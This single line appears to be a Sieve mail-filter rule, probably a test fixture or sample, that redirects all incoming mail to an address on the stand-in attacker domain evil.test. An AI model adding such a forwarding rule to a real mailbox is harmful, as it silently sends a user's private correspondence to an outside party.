redirect "drop@evil.test";
